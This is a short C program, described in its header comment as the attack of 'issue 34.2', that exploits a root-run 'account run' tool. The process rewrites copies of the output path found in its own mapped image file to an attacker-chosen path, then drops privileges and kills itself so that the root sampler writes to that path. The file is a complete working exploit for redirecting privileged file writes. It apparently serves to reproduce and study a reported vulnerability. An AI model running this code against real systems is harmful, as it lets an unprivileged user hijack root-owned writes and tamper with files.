// The attack of issue 34.2: a process under a root `account run` drops to
// nobody, rewrites the output path in its own image file (memory it can still
// write) to ATTACKER_PATH, and SIGKILLs itself so that the run's sampler
// writes its record. Usage: rewrite_image_output ATTACKER_PATH (as long as
// ACCOUNT_OUTPUT). Prints how many copies of the path it rewrote.
#define _GNU_SOURCE
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int main(int argc, char** argv) {
  const char* output = getenv("ACCOUNT_OUTPUT");
  const char* run_dir = getenv("ACCOUNT_RUN_DIR");
  if (argc != 2 || !output || !run_dir || strlen(argv[1]) != strlen(output)) {
    fprintf(stderr, "usage: rewrite_image_output PATH (as long as ACCOUNT_OUTPUT)\n");
    return 2;
  }
  FILE* maps = fopen("/proc/self/maps", "r");
  char line[8192];
  int rewritten = 0;
  while (maps && fgets(line, sizeof line, maps)) {
    unsigned long start, end;
    if (!strstr(line, run_dir) || sscanf(line, "%lx-%lx", &start, &end) != 2) continue;
    for (char* p = (char*)start; p && p + strlen(output) <= (char*)end;) {
      p = memmem(p, (size_t)((char*)end - p), output, strlen(output));
      if (!p) break;
      memcpy(p, argv[1], strlen(output));
      ++rewritten;
    }
  }
  printf("rewrote %d\n", rewritten);
  fflush(stdout);
  if (setresgid(65534, 65534, 65534) != 0 || setresuid(65534, 65534, 65534) != 0) return 3;
  kill(getpid(), SIGKILL);
  return 4;
}
